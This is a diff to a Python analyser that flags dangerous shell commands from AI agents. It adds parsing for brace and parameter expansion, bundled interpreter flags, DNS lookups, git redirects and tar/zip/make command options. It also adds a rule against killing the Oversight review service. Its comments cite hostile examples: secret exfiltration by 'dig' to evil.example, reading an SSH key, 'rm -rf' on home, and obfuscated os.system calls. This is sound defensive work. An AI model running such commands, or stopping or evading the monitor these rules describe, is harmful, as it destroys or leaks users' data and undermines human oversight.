@@ -48,6 +48,9 @@ SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox 
 INTERPRETERS = frozenset(
     {"python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "Rscript", "deno", "bun", "osascript"}
 )
+# Interpreter options whose value is the next word (not the script): python -W ignore / -X dev, perl/ruby -I DIR.
+_INTERPRETER_VALUE_OPTS = frozenset({"-W", "-X", "-I", "-Q", "--require", "--import", "--loader"})
+_DNS_LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "kdig", "delv", "getent", "ping", "ping6", "resolvectl"})
 DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "lwp-download", "GET"})
 NET_SENDERS = frozenset(
     {
@@ -766,6 +769,92 @@ def _array_uses(text: str, after: int, name: str, items: str) -> str:
     return text[:after] + "".join(out) + text[last:] if out else text
 
 
+def _parameter_op(value: str, op: str) -> str | None:
+    """``${NAME<op>}`` of a known value: case changes (``,,`` ``^^`` ``,`` ``^``), removing a literal prefix or
+    suffix (``#x`` ``##x`` ``%x`` ``%%x``), replacing a literal (``/x/y`` ``//x/y``), a substring (``:1`` ``:1:2``).
+    None for anything else (a glob pattern, an array subscript, a length): the value is then unknown."""
+    if op == ",,":
+        return value.lower()
+    if op == "^^":
+        return value.upper()
+    if op == ",":
+        return value[:1].lower() + value[1:]
+    if op == "^":
+        return value[:1].upper() + value[1:]
+    if re.search(r"[*?\[\]$`]", op):
+        return None
+    if op.startswith(("##", "#")):
+        pattern = op.lstrip("#")
+        return value.removeprefix(pattern)
+    if op.startswith(("%%", "%")):
+        pattern = op.lstrip("%")
+        return value.removesuffix(pattern)
+    if op.startswith("/"):
+        every = op.startswith("//")
+        pattern, _, replacement = op[2 if every else 1 :].partition("/")
+        if not pattern:
+            return None
+        return value.replace(pattern, replacement) if every else value.replace(pattern, replacement, 1)
+    if (m := re.fullmatch(r":\s*(-?\d+)(?::(-?\d+))?", op)) is not None:
+        offset = int(m.group(1))
+        rest = value[offset:] if offset >= 0 else value[max(0, len(value) + offset) :]
+        if m.group(2) is None:
+            return rest
+        length = int(m.group(2))
+        return rest[:length]  # a negative length counts from the end, as slicing does
+    return None
+
+
+MAX_BRACE_WORDS = 64
+
+
+def _brace_expand(word: str) -> list[str]:
+    """Bash's brace expansion of an unquoted word: ``{~,/tmp/x}`` → ``~``, ``/tmp/x``; ``.{git,x}`` → ``.git``,
+    ``.x``; ``x{1..3}`` → ``x1 x2 x3``. It comes before tilde expansion, so ``{~,x}`` names home. At most
+    ``MAX_BRACE_WORDS`` words; a word with nothing to expand is itself."""
+    start = word.find("{")
+    while start >= 0:
+        depth, commas, end = 0, [], -1
+        for i in range(start, len(word)):
+            c = word[i]
+            if c == "{":
+                depth += 1
+            elif c == "}":
+                depth -= 1
+                if depth == 0:
+                    end = i
+                    break
+            elif c == "," and depth == 1:
+                commas.append(i)
+        if end < 0:
+            return [word]
+        inner = word[start + 1 : end]
+        head, tail = word[:start], word[end + 1 :]
+        options: list[str] = []
+        if commas:
+            cuts = [start, *commas, end]
+            options = [word[cuts[k] + 1 : cuts[k + 1]] for k in range(len(cuts) - 1)]
+        elif (seq := re.fullmatch(r"(-?\d{1,6})\.\.(-?\d{1,6})", inner)) is not None:
+            lo, hi = int(seq.group(1)), int(seq.group(2))
+            step = 1 if hi >= lo else -1
+            options = [str(n) for n in range(lo, hi + step, step)][:MAX_BRACE_WORDS]
+        elif (seq := re.fullmatch(r"([A-Za-z])\.\.([A-Za-z])", inner)) is not None:
+            lo, hi = ord(seq.group(1)), ord(seq.group(2))
+            step = 1 if hi >= lo else -1
+            options = [chr(n) for n in range(lo, hi + step, step)]
+        if not options:
+            start = word.find("{", start + 1)
+            continue
+        out: list[str] = []
+        for option in options:
+            for expanded in _brace_expand(head + option + tail):
+                out.append(expanded)
+                if len(out) >= MAX_BRACE_WORDS:
+                    return out
+        return out
+    return [word]
+
+
 def _quoted_at(text: str, pos: int) -> bool:
     """Whether ``text[pos]`` is inside a single- or double-quoted string of the shell command."""
     quote = ""
@@ -1084,6 +1173,8 @@ class ShellAnalyser:
                 if base in self.tainted_vars or _ENV_SECRET_VAR_RE.search("$" + base):
                     tainted = True
                 known = self.vars.get(base)
+                if known is not None and name != base and not re.match(r"[A-Za-z_]\w*:?[-=+?]", name):
+                    known = _parameter_op(known, name[len(base) :])  # ${c,,} ${c#x} ${c/x/} ${c:1:2}: None unknown
                 if known is None and (op := re.match(r"[A-Za-z_]\w*:?[-=]", name)) is not None:
                     # ${X:-WORD}, ${X-WORD}, ${X:=WORD}, ${X=WORD}: WORD (one level of quotes off) when X is unset,
                     # the variables it names that are known put in (${DIR:-$HOME})
@@ -1202,6 +1293,8 @@ class ShellAnalyser:
                         code = _printf_output(upstream[0].argv[1:]) or ""
                     if code and sink.name in SHELLS:
                         self.analyse(code, depth + 1)
+                    elif code:  # echo "import os; os.system('…')" | python3: the text is the interpreter's code
+                        self.inline_code(code, ptext, depth + 1)
             if sink.name in NET_SENDERS or _is_upload(sink):
                 if any(
                     c.reads_secret or c.name in ("env", "printenv") or (c.name == "set" and len(c.argv) == 1)
@@ -1250,8 +1343,11 @@ class ShellAnalyser:
                 assigns.append((name, _Word(value=w.value.partition("=")[2], dynamic=w.dynamic, tainted=w.tainted)))
             elif k == "word":
                 w = self.expand_word(part, text, depth)
+                raw = _node_text(part, text) if "{" in w.value else ""
                 if w.ifs_split and words:  # an argument split on a custom IFS is several arguments
                     words.extend(replace(w, value=x) for x in w.value.split(" ") if x)
+                elif raw and not re.search(r"[\"'\\]|\$\{", raw) and len(braced := _brace_expand(w.value)) > 1:
+                    words.extend(replace(w, value=x) for x in braced)  # rm -rf {~,/tmp/x}: two arguments
                 else:
                     words.append(w)
             elif k == "redirect":
@@ -1300,6 +1396,12 @@ class ShellAnalyser:
         return cmd
 
     def _assign(self, name: str, w: _Word) -> None:
+        if name.endswith("+"):  # c+=m appends to c (an unknown c stays unknown)
+            name = name[:-1]
+            if name not in self.vars:
+                self.vars.pop(name, None)
+                return
+            w = replace(w, value=self.vars[name] + w.value)
         if w.dynamic and not w.decoded:
             self.vars.pop(name, None)
         else:
@@ -1726,12 +1828,15 @@ class ShellAnalyser:
         if name in ("perl", "ruby"):
             _interpreter_in_place(self, name, args, ctext)  # perl -pi -e '…' FILE edits FILE
         code: str | None = None
-        for flag in ("-c", "-e", "-E", "-r", "--eval", "-p", "--print"):
-            if flag in args:
-                i = args.index(flag)
-                if i + 1 < len(args):
-                    code = args[i + 1]
-                    self._secret_args(cmd, name, args[i + 2 :])  # python3 -c '…open(sys.argv[1])…' ~/.ssh/id_rsa
+        flags = ("-c", "-e", "-E", "-r", "--eval", "-p", "--print")
+        for i, x in enumerate(args):
+            if x == "--" or (not x.startswith("-") and i > 0 and args[i - 1] not in _INTERPRETER_VALUE_OPTS):
+                break  # the script (or the end of the options): what follows is its arguments
+            # -c, or a bundle ending in it: python3 -Ic, perl -we / -ne, node -pe, ruby -we
+            bundled = len(x) > 2 and x[0] == "-" and x[1] != "-" and x[1:].isalnum() and f"-{x[-1]}" in flags
+            if (x in flags or bundled) and i + 1 < len(args):
+                code = args[i + 1]
+                self._secret_args(cmd, name, args[i + 2 :])  # python3 -c '…open(sys.argv[1])…' ~/.ssh/id_rsa
                 break
         if code is None:
             if name.startswith("python") and len(args) >= 2 and args[0] == "-m":
@@ -1803,7 +1908,9 @@ class ShellAnalyser:
                 "Inline code downloads and executes code.",
                 ctext,
             )
-        if executes and re.search(r"b64decode|base64|decode\(|fromCharCode|\\x[0-9a-f]{2}", code):
+        decodes = re.search(r"b64decode|base64|decode\(|fromCharCode|\\x[0-9a-f]{2}|\[::-1\]|\bchr\(", code)
+        if decodes and (executes or _INLINE_RUN_CALL.search(code)):
+            # os.system(base64.b64decode('…').decode()), os.system('~ fr- mr'[::-1]): what runs is hidden
             self.emit("obfuscation", "inline_decode_exec", S.high, "Inline code executes decoded data.", ctext)
         if (
             re.search(r"socket", code)
@@ -1905,8 +2012,9 @@ class ShellAnalyser:
         # generic: arguments naming secrets
         self._secret_args(cmd, name, args)
         _tamper_and_exposure_rules(self, cmd, name, args)
-        # generic: secret-looking variables handed to network commands
-        if name in NET_SENDERS and any(w.tainted for w in cmd.words[1:]):
+        # generic: secret-looking variables handed to network commands (a name looked up is sent to the DNS:
+        # dig $AWS_SECRET_ACCESS_KEY.evil.example carries the secret to that domain's name server)
+        if (name in NET_SENDERS or name in _DNS_LOOKUPS) and any(w.tainted for w in cmd.words[1:]):
             hosts = _urls_hosts(args)
             if not hosts or not all(host_allowed(h, self.policy.allowed_hosts) for h in hosts):
                 self.emit(
@@ -3085,6 +3193,8 @@ def _check_requirement(a: ShellAnalyser, spec: str, ctext: str, eco: str) -> Non
         or (eco == "npm" and re.match(r"^[\w.-]+/[\w.-]+(#.*)?$", spec))
     ):
         h = host_of(spec.split("+", 1)[-1]) if "://" in spec else None
+        # High also on an allowed host: github.com serves anyone's repository, unreviewed, unlike a registry's
+        # release (tests/data/actions_corpus.jsonl labels `pip install git+https://github.com/unknown/…` dangerous).
         sev = S.high
         a.emit(
             "package_install_untrusted",
@@ -3639,6 +3749,31 @@ _SECURITY_TOOL_RE = re.compile(
     r"|clamav[\w-]*|clamd|freshclam|apparmor|selinux[\w-]*|auditd|wazuh[\w-]*|ossec[\w-]*|com\.apple\.alf)(?!\w)",
     re.IGNORECASE,
 )
+_OVERSIGHT_NAME = re.compile(r"(?<![\w-])oversight(?![\w-]*\.(py|md|txt|json|ya?ml)\b)", re.I)
+
+
+def _stops_oversight(name: str, pos: list[str]) -> str | None:
+    """``pkill -f oversight``, ``killall oversight``, ``systemctl stop oversight``, ``docker stop|kill|rm oversight``,
+    ``docker compose … down|stop`` of Oversight's compose file, ``kubectl scale|delete`` of its deployment."""
+    joined = " ".join(pos)
+    if name in ("pkill", "killall") and _OVERSIGHT_NAME.search(joined):
+        return f"{name} {joined}"[:120]
+    if (
+        name in ("systemctl", "service")
+        and pos[:1]
+        and pos[0] in ("stop", "disable", "kill", "mask")
+        and _OVERSIGHT_NAME.search(joined)
+    ):
+        return f"{name} {joined}"[:120]
+    if name in ("docker", "podman") and pos:
+        verb = pos[1] if pos[0] in ("container", "compose") and len(pos) > 1 else pos[0]
+        if verb in ("stop", "kill", "rm", "down", "pause") and _OVERSIGHT_NAME.search(joined):
+            return f"{name} {joined}"[:120]
+    if name == "kubectl" and pos[:1] and pos[0] in ("scale", "delete", "rollout") and _OVERSIGHT_NAME.search(joined):
+        return f"{name} {joined}"[:120]
+    return None
+
+
 _PKG_REMOVE_TOOLS = frozenset({"apt", "apt-get", "aptitude", "yum", "dnf", "zypper", "apk", "pacman", "brew", "snap"})
 _PKG_REMOVE_VERBS = frozenset({"remove", "purge", "erase", "autoremove", "uninstall", "del", "rm", "-R", "-Rs", "-Rns"})
 _FALSE_WORDS = frozenset({"false", "0", "no", "off"})
@@ -3668,6 +3803,15 @@ def _tamper_and_exposure_rules(a: ShellAnalyser, cmd: _Cmd, name: str, args: lis
             tamper = f"Removes a security package ({hit})"
     elif name in ("pkill", "killall") and (hit := next((x for x in pos if _SECURITY_TOOL_RE.search(x)), None)):
         tamper = f"Kills a security agent ({hit})"
+    elif (hit := _stops_oversight(name, pos)) is not None:
+        a.emit(
+            "privilege_escalation",
+            "tamper_oversight",
+            S.high,
+            f"Stops Oversight itself ({hit}): an agent must not switch off the service that reviews its actions.",
+            ctext,
+        )
+        return
     if tamper:
         a.emit("process_system_control", "disable_security_service", S.high, tamper + ".", ctext)
         return
@@ -4332,11 +4476,43 @@ def git_config_exec_keys(text: str) -> list[str]:
     return out
 
 
+_GIT_REDIRECT_KEY = re.compile(r"url\.(.+)\.(push)?insteadof|https?(\..+)?\.proxy|remote\.[^.]+\.(push)?url", re.I)
+
+
+def _git_redirect(a: ShellAnalyser, key: str, value: str | None, ctext: str, how: str) -> bool:
+    """Git options that send later traffic elsewhere: ``url.<base>.insteadOf`` (every matching clone, fetch and
+    push, with its credentials, goes to <base>), ``http.proxy``, ``remote.<name>.url``. High when the new place is
+    not an allowed host (or cannot be known); True when ``key`` is one of them."""
+    m = _GIT_REDIRECT_KEY.fullmatch(key)
+    if m is None:
+        return False
+    target = m.group(1) if m.group(1) is not None else (value or "")
+    if not target and value is None:
+        target = ""
+    if "://" in target:
+        host = host_of(target)
+    else:  # git@host:owner/repo, host:path
+        host = target.split("@")[-1].split(":")[0] if re.match(r"[\w.-]+@[\w.-]+:|[\w.-]+:", target) else ""
+    if host and host_allowed(host, a.policy.allowed_hosts):
+        return True
+    what = "sends later clones, fetches and pushes (and the credentials they carry)"
+    a.emit(
+        "network_egress",
+        "git_redirect",
+        S.high,
+        f"{how} sets {key.lower()}: git {what} to {host or 'a place the analyser cannot know'}.",
+        ctext,
+    )
+    return True
+
+
 def _git_exec(a: ShellAnalyser, key: str, value: str | None, ctext: str, depth: int, how: str) -> None:
     """A command-running git option set by ``how`` (``-c``, ``git config``, an environment variable …): high, and
     the command it names analysed like any other. A well-known program (``_GIT_TOOLS``) is not flagged but still
     analysed; a folder or file git takes commands from is graded by where it is (:func:`_git_path_option`)."""
     k0 = key.strip().lower()
+    if _git_redirect(a, key.strip(), value, ctext, how):
+        return
     graded = _git_path_option(a, k0, value) if value else None
     if graded is not None:
         a.emit(
@@ -6936,6 +7112,56 @@ def _make_from_stdin(a: ShellAnalyser, cmd: _Cmd, depth: int, pl: Any, ix: int) 
 
 for _n in ("make", "gmake"):
     _HANDLERS[_n] = _also(_HANDLERS.get(_n), _h_make)
+del _n
+
+
+# Options whose value is a command the program runs: tar's checkpoint actions, compressors and per-file commands,
+# zip's test command, make's extra makefile text. (option, how its value is read): "sh" a shell command line,
+# "make" makefile text, "exec" tar's ``exec=CMD`` action.
+_COMMAND_OPTIONS: dict[str, dict[str, str]] = {
+    "tar": {
+        "--checkpoint-action": "exec",
+        "--use-compress-program": "sh",
+        "-I": "sh",
+        "--to-command": "sh",
+        "--info-script": "sh",
+        "--new-volume-script": "sh",
+        "-F": "sh",
+    },
+    "zip": {"-TT": "sh", "--unzip-command": "sh"},
+    "make": {"--eval": "make", "-E": "make"},
+}
+for _n, _m in (("gtar", "tar"), ("bsdtar", "tar"), ("gmake", "make")):
+    _COMMAND_OPTIONS[_n] = _COMMAND_OPTIONS[_m]
+del _n, _m
+
+
+def _h_command_options(a: ShellAnalyser, cmd: _Cmd, args: list[str], depth: int, pl: Any, ix: int) -> None:
+    """The commands given to tar, zip or make in their options (``--checkpoint-action=exec='…'``,
+    ``--use-compress-program='…'``, ``zip -TT '…'``, ``make --eval='all: ; …'``) are analysed as what will run."""
+    options = _COMMAND_OPTIONS.get(cmd.name, {})
+    for i, x in enumerate(args):
+        key, eq, value = x.partition("=") if x.startswith("--") else (x, "", "")
+        how = options.get(key)
+        if how is None:
+            continue
+        if not eq:
+            if i + 1 >= len(args):
+                continue
+            value = args[i + 1]
+        if how == "exec":
+            action, _, value = value.partition("=")
+            if action != "exec":
+                continue
+        if how == "make":
+            for line in _make_recipes(value):
+                a.analyse(line, depth + 1)
+        else:
+            a.analyse(value, depth + 1)
+
+
+for _n in _COMMAND_OPTIONS:
+    _HANDLERS[_n] = _also(_HANDLERS.get(_n), _h_command_options)
 del _n
 
 
